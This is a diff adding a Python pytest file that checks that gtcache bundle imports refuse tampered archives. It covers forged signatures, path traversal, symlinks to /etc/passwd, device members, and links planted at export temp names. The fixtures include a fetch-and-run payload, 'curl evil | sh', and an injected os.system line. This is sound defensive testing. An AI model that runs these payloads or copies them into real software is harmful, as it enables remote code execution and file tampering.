@@ -1,0 +1,502 @@
+"""Attacks on bundles (format 2): every byte proved, the signature over all of it, memory bounded,
+the export file never written through a planted link; refused bundles change nothing anywhere."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import pathlib
+import re
+import subprocess
+import tarfile
+
+import pytest
+
+import gtcache
+from gtcache.bundle import BundleError, export_bundle, import_bundle, read_bundle, write_bundle
+from tests.conftest import SIZE, CompiledStore
+from tests.helpers import load_in_fresh_process
+from tests.reliability.test_hostile_input import GTCACHE, files, gtcache_cli, one_line_error
+from tests.security.crafting import (
+    Member,
+    build,
+    edit,
+    file_info,
+    flip,
+    manifest_for,
+    payload,
+    read_members,
+    rewrite_record,
+    sign,
+    tree,
+)
+from tests.helpers import draft, publish
+
+KEY = b"ci-secret-0123456789"
+ENV_KEY = {"GTCACHE_BUNDLE_KEY": KEY.decode()}
+
+
+def cli_env(**extra: str) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GTCACHE_")}
+    return env | extra
+
+
+def run_cli(store: pathlib.Path, *args: str, env: dict[str, str] | None = None,
+            stdin: bytes | None = None) -> subprocess.CompletedProcess[str]:
+    if env is None and stdin is None:
+        return gtcache_cli(store, *args)
+    result = subprocess.run([GTCACHE, "--cache-dir", str(store), *args], capture_output=True, timeout=300,
+                            env=env if env is not None else cli_env(), input=stdin)
+    return subprocess.CompletedProcess(result.args, result.returncode, result.stdout.decode(errors="replace"),
+                                       result.stderr.decode(errors="replace"))
+
+
+@pytest.fixture
+def source(tmp_path: pathlib.Path) -> gtcache.Store:
+    store = gtcache.open_store(tmp_path / "src")
+    for name in ("a", "b"):
+        publish(store, name, payload=name.encode() * 1000)
+    store.publish(draft("two_files"), {"program.py": b"print(2)\n", "data.bin": os.urandom(3000)})
+    return store
+
+
+@pytest.fixture
+def signed(source: gtcache.Store, tmp_path: pathlib.Path) -> pathlib.Path:
+    return export_bundle(source, source.scan().entries, tmp_path / "signed.tar.gz", key=KEY).path  # type: ignore[return-value]
+
+
+@pytest.fixture
+def target(tmp_path: pathlib.Path) -> pathlib.Path:
+    """A store that already holds two entries (which a refused import must leave byte-identical)."""
+    root = tmp_path / "dst"
+    store = gtcache.open_store(root)
+    for name in ("kept_a", "kept_b"):
+        publish(store, name, payload=name.encode() * 100)
+    return root
+
+
+def refused_by_cli(target: pathlib.Path, bundle: pathlib.Path, *args: str, env: dict[str, str] | None = None) -> str:
+    """Import through the real command: one Error line, exit 1, the store's files unchanged."""
+    before = files(target)
+    line = one_line_error(run_cli(target, "import", str(bundle), *args, env=env), 1)
+    assert files(target) == before
+    assert not any((target / "tmp").iterdir()), "no staging left behind"
+    return line
+
+
+# -- the signature covers every byte ---------------------------------------------------------
+
+
+def forged_record_and_payload(members: list[Member]) -> list[Member]:
+    """Replace one entry's program.py and fix its entry.json (sizes, xxh3, record_xxh3) to match."""
+    evil = b"import os\nos.system('curl evil | sh')\n"
+    victim = next(i.name for i, _ in members if i.name.endswith("program.py"))
+    folder = victim.rsplit("/", 1)[0]
+    import xxhash
+
+    def fix(record: dict) -> None:
+        for item in record["files"]:
+            if item["path"] == "program.py":
+                item["size"], item["xxh3"] = len(evil), xxhash.xxh3_128_hexdigest(evil)
+
+    members = edit(members, lambda n: n == victim, lambda _: evil)
+    return edit(members, lambda n: n == f"{folder}/entry.json", lambda d: rewrite_record(d, fix))
+
+
+def test_signed_bundle_with_forged_record_and_payload_is_refused(
+    signed: pathlib.Path, target: pathlib.Path, tmp_path: pathlib.Path, figures
+) -> None:
+    members = read_members(signed)
+    manifest = members[0][1]
+    forged = build(tmp_path / "forged.tar.gz", payload(forged_record_and_payload(members)),
+                   manifest=manifest, key=KEY)  # the manifest and its signature as they were
+    line = refused_by_cli(target, forged, env=cli_env(**ENV_KEY))
+    assert re.search(r"entry\.json' (does not match its SHA-256|has .*, the manifest says)", line), line
+    # Re-listing the forged files needs a new manifest, which the key does not sign.
+    relisted = build(tmp_path / "relisted.tar.gz", payload(forged_record_and_payload(members)),
+                     signature=members[1][1])
+    assert "wrong signature" in refused_by_cli(target, relisted, env=cli_env(**ENV_KEY))
+    stripped = build(tmp_path / "stripped.tar.gz", payload(forged_record_and_payload(members)))
+    assert "is not signed" in refused_by_cli(target, stripped, env=cli_env(**ENV_KEY))
+    figures.add("security", "signed bundle, entry.json and program.py forged (record_xxh3 recomputed): exit code", 1)
+
+
+@pytest.mark.parametrize("kind", ["entry.json", "program.py", "data.bin", "manifest", "signature"])
+def test_tampering_with_any_member_is_refused(
+    signed: pathlib.Path, tmp_path: pathlib.Path, kind: str, figures
+) -> None:
+    members = read_members(signed)
+    manifest, signature = members[0][1], members[1][1]
+    body = payload(members)
+    if kind in ("entry.json", "program.py", "data.bin"):
+        victim = next(i.name for i, _ in body if i.name.endswith(kind))
+        bad = build(tmp_path / "bad.tar.gz", edit(body, lambda n: n == victim, flip), manifest=manifest, signature=signature)
+        reason = f"'{victim}' does not match its SHA-256"
+    elif kind == "manifest":
+        bad = build(tmp_path / "bad.tar.gz", body, manifest=manifest.replace(b'"format": 2', b'"format":  2'),
+                    signature=signature)
+        reason = "wrong signature"
+    else:
+        bad = build(tmp_path / "bad.tar.gz", body, manifest=manifest, signature=flip(signature))
+        reason = "wrong signature"
+    store = gtcache.open_store(tmp_path / "fresh")
+    before = tree(tmp_path)
+    with pytest.raises(BundleError, match=reason):
+        import_bundle(store, bad, key=KEY)
+    assert tree(tmp_path) == before
+    figures.add("security", f"signed bundle, {kind} changed: refused", "yes")
+
+
+# -- keys and signature demands ----------------------------------------------------------------
+
+
+def test_empty_key_is_an_error_not_a_free_pass(source: gtcache.Store, target: pathlib.Path,
+                                               tmp_path: pathlib.Path, figures) -> None:
+    unsigned = export_bundle(source, source.scan().entries, tmp_path / "unsigned.tar.gz").path
+    assert unsigned is not None
+    for value in ("", "  "):
+        line = refused_by_cli(target, unsigned, env=cli_env(GTCACHE_BUNDLE_KEY=value))
+        assert "GTCACHE_BUNDLE_KEY is set but empty" in line, line
+        out = tmp_path / "out.tar.gz"
+        one_line_error(run_cli(source.root, "export", str(out), env=cli_env(GTCACHE_BUNDLE_KEY=value)), 1)
+        assert not out.exists()
+    with pytest.raises(BundleError, match="key is empty"):
+        import_bundle(gtcache.open_store(target), unsigned, key=b"")
+    figures.add("security", "GTCACHE_BUNDLE_KEY set but empty: import/export exit code", 1)
+
+
+def test_signatures_can_be_required(source: gtcache.Store, signed: pathlib.Path, target: pathlib.Path,
+                                    tmp_path: pathlib.Path, figures) -> None:
+    unsigned = export_bundle(source, source.scan().entries, tmp_path / "unsigned.tar.gz").path
+    assert unsigned is not None
+    assert "is not signed" in refused_by_cli(target, unsigned, env=cli_env(**ENV_KEY))
+    both = cli_env(GTCACHE_BUNDLE_REQUIRE_SIGNED="1", **ENV_KEY)
+    assert "is not signed, and signed bundles are required" in refused_by_cli(target, unsigned, env=both)
+    assert "signed bundles are required" in refused_by_cli(target, unsigned, "--require-signature",
+                                                           env=cli_env(**ENV_KEY))
+    # Asking for signatures without a key to check them is refused up front.
+    assert "not set to check" in refused_by_cli(target, signed, "--require-signature")
+    assert "not set to check" in refused_by_cli(target, signed, env=cli_env(GTCACHE_BUNDLE_REQUIRE_SIGNED="yes"))
+    assert "neither 1 nor 0" in refused_by_cli(target, signed, env=cli_env(GTCACHE_BUNDLE_REQUIRE_SIGNED="ture"))
+    ok = run_cli(target, "import", str(signed), "--require-signature", env=both)
+    assert ok.returncode == 0 and "Imported 3 entries" in ok.stdout, ok.stdout + ok.stderr
+    figures.add("security", "unsigned bundle with --require-signature / GTCACHE_BUNDLE_REQUIRE_SIGNED=1: exit code", 1)
+
+
+# -- malformed manifests and signatures: one line, exit 1 --------------------------------------
+
+
+def _nested(depth: int) -> bytes:
+    return b'{"format": 2, "members": ' + b"[" * depth + b"]" * depth + b', "gtcache_version": "x"}'
+
+
+MALFORMED = {
+    "a non-ASCII signature": (None, "signature\u00e9".encode() * 4),
+    "members that are not objects": (json.dumps({"format": 2, "gtcache_version": "x", "members": ["a", 1]}).encode(), None),
+    "entries of format 1 that are not objects": (json.dumps({"format": 2, "gtcache_version": "x", "members": {"a": 1}}).encode(), None),
+    "a manifest that is not UTF-8": (b'{"format": 2, "members": [], "gtcache_version": "\xff\xfe"}', None),
+    "a manifest nested 5,000 levels deep": (_nested(5000), None),
+    "a manifest that is a list": (b"[]", None),
+    "a manifest with a bad size": (json.dumps({"format": 2, "gtcache_version": "x", "members": [
+        {"path": "entries/ab/ab" + "0" * 30 + "/entry.json", "size": -1, "sha256": "0" * 64}]}).encode(), None),
+}
+
+
+@pytest.mark.parametrize("damage", list(MALFORMED))
+def test_malformed_manifest_or_signature_is_one_line(signed: pathlib.Path, target: pathlib.Path,
+                                                     tmp_path: pathlib.Path, damage: str, figures) -> None:
+    members = read_members(signed)
+    manifest, signature = MALFORMED[damage]
+    bad = build(tmp_path / "bad.tar.gz", payload(members), manifest=manifest or members[0][1],
+                signature=signature or members[1][1])
+    line = refused_by_cli(target, bad, env=cli_env(**ENV_KEY) if signature else None)
+    assert "Traceback" not in line and str(bad) in line, line
+    figures.add("security", f"bundle with {damage}: one Error line, exit code", 1)
+
+
+def test_format_1_bundle_is_refused_with_what_to_do(signed: pathlib.Path, target: pathlib.Path,
+                                                    tmp_path: pathlib.Path) -> None:
+    members = payload(read_members(signed))
+    old = build(tmp_path / "old.tar.gz", members, manifest=json.dumps(
+        {"format": 1, "gtcache_version": "0.3.0", "entries": {}}, indent=1).encode(), key=KEY)
+    line = refused_by_cli(target, old, env=cli_env(**ENV_KEY))
+    assert "bundle format 1; this gtcache reads format 2: export it again" in line, line
+
+
+# -- hostile members, even when the manifest lists them with true checksums ------------------
+
+
+def hostile(kind: str, members: list[Member], tmp_path: pathlib.Path) -> list[Member]:
+    entry_json = next(i.name for i, _ in members if i.name.endswith("entry.json"))
+    folder = entry_json.rsplit("/", 1)[0]
+    if kind == "duplicate":
+        return [*members, members[-1]]
+    names = {"traversal": "entries/../../evil", "deep traversal": f"{folder}/../../../../evil",
+             "absolute": f"{tmp_path}/evil", "backslash": f"{folder}\\..\\evil"}
+    if kind in names:
+        return [*members, (file_info(names[kind], b"evil"), b"evil")]
+    info = tarfile.TarInfo(f"{folder}/extra.so")
+    if kind == "symlink":
+        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
+    elif kind == "hardlink":
+        info.type, info.linkname = tarfile.LNKTYPE, entry_json
+    elif kind == "device":
+        info.type, info.devmajor, info.devminor = tarfile.CHRTYPE, 1, 3
+    elif kind == "fifo":
+        info.type = tarfile.FIFOTYPE
+    elif kind == "folder":
+        info.type, info.name = tarfile.DIRTYPE, folder
+    return [*members, (info, b"")]
+
+
+HOSTILE = {
+    "traversal": "not a canonical name",
+    "deep traversal": "not a canonical name",
+    "absolute": "not a canonical name",
+    "backslash": "not a canonical name",
+    "symlink": "is a symbolic link, not a regular file",
+    "hardlink": "is a hard link, not a regular file",
+    "device": "is a device, not a regular file",
+    "fifo": "is a FIFO, not a regular file",
+    "folder": "not a canonical name",
+    "duplicate": "appears twice",
+}
+
+
+@pytest.mark.parametrize("kind", list(HOSTILE))
+@pytest.mark.parametrize("listed", [True, False], ids=["listed", "unlisted"])
+def test_hostile_members_are_refused(signed: pathlib.Path, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch,
+                                     kind: str, listed: bool, figures) -> None:
+    body = payload(read_members(signed))
+    members = hostile(kind, body, tmp_path)
+    bad = build(tmp_path / "hostile.tar.gz", members, key=KEY, listed=members if listed else body)
+    store = gtcache.open_store(tmp_path / "stores" / "dst")
+    (tmp_path / "cwd").mkdir()
+    monkeypatch.chdir(tmp_path / "cwd")
+    before = tree(tmp_path)
+    # Listed or not, the header alone refuses them (duplicates: the second header).
+    with pytest.raises(BundleError, match=HOSTILE[kind]):
+        import_bundle(store, bad, key=KEY)
+    assert tree(tmp_path) == before, "nothing written anywhere (store, its parent, the cwd)"
+    assert not (tmp_path / "evil").exists() and not (tmp_path / "stores" / "evil").exists()
+    figures.add("security", f"{'listed' if listed else 'unlisted'} {kind} member: refused, files changed", "yes, 0")
+
+
+def test_members_missing_or_unlisted_are_refused(signed: pathlib.Path, tmp_path: pathlib.Path) -> None:
+    body = payload(read_members(signed))
+    store = gtcache.open_store(tmp_path / "dst")
+    with pytest.raises(BundleError, match="lacks member .* its manifest lists"):
+        import_bundle(store, build(tmp_path / "short.tar.gz", body[:-1], listed=body), key=None)
+    with pytest.raises(BundleError, match="is not in the manifest"):
+        import_bundle(store, build(tmp_path / "extra.tar.gz", body, listed=body[:-1]), key=None)
+    no_record = [m for m in body if m[0].name != body[0][0].name]
+    with pytest.raises(BundleError, match="but no 'entry.json'"):
+        import_bundle(store, build(tmp_path / "norec.tar.gz", no_record), key=None)
+    signature_late = build(tmp_path / "late.tar.gz", [*body, (file_info("signature", b"0" * 64), b"0" * 64)],
+                           listed=body)
+    with pytest.raises(BundleError, match="second 'signature'"):
+        import_bundle(store, signature_late)
+    assert not list(store.root.glob("entries/*/*"))
+
+
+def test_extension_headers_are_refused_before_their_contents_are_read(signed: pathlib.Path,
+                                                                     tmp_path: pathlib.Path) -> None:
+    body = payload(read_members(signed))
+    out = tmp_path / "pax.tar.gz"
+    long_name = body[0][0].name.rsplit("/", 1)[0] + "/" + "x" * 120  # needs a pax header
+    with tarfile.open(out, "w:gz", format=tarfile.PAX_FORMAT) as tar:
+        manifest = manifest_for(body)
+        tar.addfile(file_info("manifest.json", manifest), io.BytesIO(manifest))
+        tar.addfile(file_info(long_name, b"x"), io.BytesIO(b"x"))
+    with pytest.raises(BundleError, match="tar extension header"):
+        import_bundle(gtcache.open_store(tmp_path / "dst"), out)
+
+
+# -- memory stays bounded --------------------------------------------------------------------
+
+
+def test_member_larger_than_listed_is_refused_at_its_header(signed: pathlib.Path, target: pathlib.Path,
+                                                            tmp_path: pathlib.Path, figures) -> None:
+    """A header claiming 8 GiB, and the archive ends right after it: reading the data would
+    fail differently, so this message proves the header alone refused it."""
+    body = payload(read_members(signed))
+    out = tmp_path / "huge.tar.gz"
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        manifest = manifest_for(body)
+        tar.addfile(file_info("manifest.json", manifest), io.BytesIO(manifest))
+        huge = file_info(body[1][0].name, b"")
+        huge.size = (8 << 30) - 512  # the most a ustar header holds
+        tar.fileobj.write(huge.tobuf(tarfile.USTAR_FORMAT, "utf-8", "surrogateescape"))  # type: ignore[union-attr]
+        tar.fileobj.write(b"\0" * 4096)  # type: ignore[union-attr]
+        tar.offset = tar.fileobj.tell()  # type: ignore[union-attr]
+        tar.closed = True  # no end-of-archive blocks: the data is cut short
+    out.write_bytes(gzip.compress(raw.getvalue()))
+    line = refused_by_cli(target, out)
+    assert f"'{body[1][0].name}' has 8.0 GiB, the manifest says" in line, line
+    figures.add("security", "member header claiming 8 GiB (manifest: a few KiB): refused at its header", "yes")
+
+
+def _import_peak_rss(tmp_path: pathlib.Path, size: int) -> int:
+    """Peak resident memory of a ``gtcache import`` of a bundle with one ``size``-byte member."""
+    zeros = tmp_path / f"zeros-{size}.bin"
+    with open(zeros, "wb") as stream:
+        stream.truncate(size)
+    source = gtcache.open_store(tmp_path / f"src-{size}")
+    source.publish(draft("zeros"), {"program.py": b"print(1)\n", "zeros.bin": zeros})
+    bundle = tmp_path / f"zeros-{size}.tar.gz"
+    export_bundle(source, source.scan().entries, bundle)
+    zeros.unlink()
+    target = tmp_path / f"dst-{size}"
+    out, err = tmp_path / "out.txt", tmp_path / "err.txt"
+    with open(out, "wb") as o, open(err, "wb") as e:
+        process = subprocess.Popen([GTCACHE, "--cache-dir", str(target), "import", str(bundle)],
+                                   stdout=o, stderr=e, env=cli_env())
+        _, status, usage = os.wait4(process.pid, 0)
+    assert os.waitstatus_to_exitcode(status) == 0, out.read_text() + err.read_text()
+    imported = gtcache.open_store(target)
+    [entry] = imported.scan().entries
+    imported.verify_payload(imported.get(entry.key))
+    return int(usage.ru_maxrss) * 1024  # KiB on Linux
+
+
+@pytest.mark.slow
+def test_import_of_a_300_MB_member_stays_far_below_its_size_in_memory(tmp_path: pathlib.Path, figures) -> None:
+    """Memory does not grow with the member: a 300 MiB member costs about what a 1 MiB one does
+    (what the interpreter and its imports take is the same in both)."""
+    size = 300 << 20
+    small, big = _import_peak_rss(tmp_path, 1 << 20), _import_peak_rss(tmp_path, size)
+    assert big - small < size // 10, f"peak RSS {big >> 20} MiB for a 300 MiB member, {small >> 20} MiB for 1 MiB"
+    figures.add("security", "import of a 300 MiB member: peak RSS of the importing process (1 MiB member)",
+                f"{big / (1 << 20):.0f} MiB ({small / (1 << 20):.0f} MiB)")
+
+
+# -- export writes nothing through planted links --------------------------------------------
+
+
+def test_export_never_follows_a_planted_temp_link(source: gtcache.Store, tmp_path: pathlib.Path, figures) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    out = tmp_path / "out" / "cache.tar.gz"
+    out.parent.mkdir()
+    # The names the old export wrote through (".NAME.tmp-PID"), for this process and others.
+    for pid in (os.getpid(), *range(1, 400)):
+        (out.parent / f".{out.name}.tmp-{pid}").symlink_to(victim)
+    export_bundle(source, source.scan().entries, out)
+    assert victim.read_text() == "precious"
+    assert out.is_file() and not out.is_symlink()
+    assert sorted(p.name for p in out.parent.iterdir() if not p.is_symlink()) == ["cache.tar.gz"]
+    # An existing file (here a link to the victim) is refused without --force, and --force
+    # replaces the link itself, never what it points to.
+    out.unlink()
+    out.symlink_to(victim)
+    line = one_line_error(run_cli(source.root, "export", str(out)), 1)
+    assert "exists already; --force replaces it" in line
+    result = run_cli(source.root, "export", str(out), "--force")
+    assert result.returncode == 0 and "KiB" in result.stdout, result.stderr
+    assert victim.read_text() == "precious" and not out.is_symlink()
+    assert len(import_bundle(gtcache.open_store(tmp_path / "dst"), out).imported) == 3
+    figures.add("security", "export with symlinks planted at the old temp names: victim file changed", "no")
+
+
+# -- pipes, reproducibility, broken entries at bundled keys ---------------------------------
+
+
+def test_export_to_stdout_and_import_from_stdin(source: gtcache.Store, target: pathlib.Path) -> None:
+    exported = subprocess.run([GTCACHE, "--cache-dir", str(source.root), "export", "-"], capture_output=True,
+                              env=cli_env(**ENV_KEY), timeout=300, check=True)
+    assert b"Exported 3 entries to standard output" in exported.stderr
+    with pytest.raises(BundleError):  # the bytes on stdout are a signed bundle: another key fails
+        read_bundle(io.BytesIO(exported.stdout), gtcache.open_store(target), key=b"other")
+    pipe = subprocess.run(f"'{GTCACHE}' --cache-dir '{source.root}' export - | '{GTCACHE}' --cache-dir '{target}' import -",
+                          shell=True, capture_output=True, text=True, env=cli_env(**ENV_KEY), timeout=300)
+    assert pipe.returncode == 0 and "Imported 3 entries" in pipe.stdout, pipe.stderr
+    garbage = run_cli(target, "import", "-", stdin=b"not a bundle at all", env=cli_env())
+    assert one_line_error(garbage, 1).startswith("Error: Bundle '<stdin>' is not a gtcache bundle")
+
+
+def test_broken_entry_at_a_bundled_key_is_replaced(tmp_path: pathlib.Path, figures) -> None:
+    source = gtcache.open_store(tmp_path / "src")
+    for index in range(6):
+        publish(source, f"prog{index}", payload=f"print({index})\n".encode() * 50)
+    keys = sorted(e.key for e in source.scan().entries)
+    bundle = export_bundle(source, source.scan().entries, tmp_path / "six.tar.gz").path
+    assert bundle is not None
+    target = gtcache.open_store(tmp_path / "dst")
+    # Two entries at bundled keys, broken two ways: one the size check sees (lookup raises
+    # CorruptEntryError), one only its checksum shows.
+    truncated = publish(target, "prog4", payload=b"print(4)\n" * 50)
+    flipped = publish(target, "prog0", payload=b"print(0)\n" * 50)
+    (truncated.path / "program.py").write_bytes(b"print(4)\n")
+    (flipped.path / "program.py").write_bytes(flip(b"print(0)\n" * 50))
+    assert {truncated.key, flipped.key} <= set(keys)
+    result = run_cli(target.root, "import", str(bundle))
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert result.stdout.startswith("Imported 6 entries (2 replaced broken ones)"), result.stdout
+    for entry_key in keys:
+        target.verify_payload(target.get(entry_key))
+    assert sorted(import_bundle(target, bundle).existing) == keys
+    figures.add("security", "import of 6 entries onto 2 broken ones at the same keys: imported, exit code", "6, 0")
+
+
+# -- real compiled entries -------------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_compiled_entries_tampered_or_good(compiled_store: CompiledStore, tmp_path: pathlib.Path, figures) -> None:
+    source = gtcache.open_store(compiled_store.path)
+    chosen = [e for e in source.scan().entries if e.program == "edge_diff"]
+    assert len(chosen) == 3, [e.backend for e in chosen]
+    bundle = export_bundle(source, chosen, tmp_path / "edge_diff.tar.gz", key=KEY).path
+    assert bundle is not None
+    members = read_members(bundle)
+    manifest, signature = members[0][1], members[1][1]
+    dace_key = compiled_store.variant("edge_diff", "dace_cpu").key
+    dace_record = f"entries/{dace_key[:2]}/{dace_key}/entry.json"
+
+    def evil_binding(record: dict) -> None:
+        fields = record["artifact"]["fields"]
+        fields["binding_source_code"] = "import os\nos.system('touch /tmp/pwned')\n" + fields["binding_source_code"]
+
+    forged = build(tmp_path / "forged.tar.gz", edit(payload(members), lambda n: n == dace_record,
+                                                     lambda d: rewrite_record(d, evil_binding)),
+                   manifest=manifest, signature=signature)
+    fresh = tmp_path / "fresh"
+    gtcache.open_store(fresh)
+    line = refused_by_cli(fresh, forged, env=cli_env(**ENV_KEY))
+    assert re.search(f"'{dace_record}' (does not match its SHA-256|has .*, the manifest says)", line), line
+    # Every payload file of every backend: one flipped byte is refused.
+    for info, _ in payload(members):
+        if info.name.endswith("entry.json"):
+            continue
+        bad = build(tmp_path / "bad.tar.gz", edit(payload(members), lambda n, i=info: n == i.name, flip),
+                    manifest=manifest, signature=signature)
+        with pytest.raises(BundleError, match="does not match its SHA-256"):
+            import_bundle(gtcache.open_store(fresh), bad, key=KEY)
+    assert not list(fresh.glob("entries/*/*"))
+    # The good bundle, imported through the real command, hits in a fresh process.
+    result = run_cli(fresh, "import", str(bundle), "--require-signature", env=cli_env(**ENV_KEY))
+    assert result.returncode == 0 and "Imported 3 entries" in result.stdout, result.stdout + result.stderr
+    for backend in ("gtfn_cpu", "dace_cpu", "roundtrip"):
+        outcomes = load_in_fresh_process(fresh, "edge_diff", backend, seed=4, size=SIZE, out_file=tmp_path / "o.npy")
+        assert [o["status"] for o in outcomes] == ["hit"], (backend, outcomes)
+    figures.add("security", "signed bundle, dace binding_source_code forged: exit code", 1)
+
+
+def test_write_and_read_one_entry_through_a_stream(source: gtcache.Store, tmp_path: pathlib.Path) -> None:
+    """The form a remote tier moves one entry in: bytes in memory, signed, read back."""
+    entry = source.get(next(e.key for e in source.scan().entries if e.program == "two_files"))
+    buffer = io.BytesIO()
+    report = write_bundle(buffer, source, [entry], key=KEY)
+    assert report.entries == 1 and report.size == len(buffer.getvalue()) and report.signed
+    target = gtcache.open_store(tmp_path / "dst")
+    assert read_bundle(io.BytesIO(buffer.getvalue()), target, key=KEY, require_signature=True).imported == (entry.key,)
+    target.verify_payload(target.get(entry.key))
+    assert sign(KEY, read_members_from(buffer.getvalue())[0][1]) == read_members_from(buffer.getvalue())[1][1]
+
+
+def read_members_from(data: bytes) -> list[Member]:
+    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
+        return [(i, tar.extractfile(i).read()) for i in tar.getmembers()]  # type: ignore[union-attr]
